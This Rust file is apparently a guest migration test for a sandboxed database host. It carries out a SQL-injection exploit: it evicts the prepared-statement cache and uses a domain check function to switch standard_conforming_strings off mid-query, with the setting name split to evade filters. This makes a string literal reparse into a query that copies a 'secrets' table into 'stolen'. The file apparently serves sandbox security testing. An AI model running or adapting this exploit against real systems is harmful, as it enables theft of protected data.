//! Prepares a statement, and more than the driver keeps after it, so that its text is sent again. In between the server reads its
//! parameter with a function, which changes how the session reads strings.

use host_guest::{Failure, Migration, Statement, execute};

struct Evicts;

host_guest::export!(Evicts);

impl Migration for Evicts {
    fn upgrade() -> Result<(), Failure> {
        execute("CREATE TABLE secrets (id int)", &[])?;
        execute(
            "CREATE FUNCTION turn(value inet) RETURNS boolean LANGUAGE plpgsql AS \
             $$ BEGIN PERFORM set_config('standard_' || 'conforming_strings', 'off', false); RETURN true; END $$",
            &[],
        )?;
        execute("CREATE DOMAIN turned AS inet CHECK (turn(VALUE))", &[])?;
        let hidden = Statement::prepare(r"SELECT $1::turned, '\', ' INTO stolen FROM secrets --'")?;
        let others: Result<Vec<_>, _> = (0..150).map(|number| Statement::prepare(&format!("SELECT {number}"))).collect();
        let _others = others?;
        hidden.execute(&[&"127.0.0.1"])?;
        execute(
            "DO $$ BEGIN PERFORM set_config('standard_' || 'conforming_strings', 'on', false); END $$",
            &[],
        )?;
        Ok(())
    }

    fn downgrade() -> Result<(), Failure> {
        Ok(())
    }
}
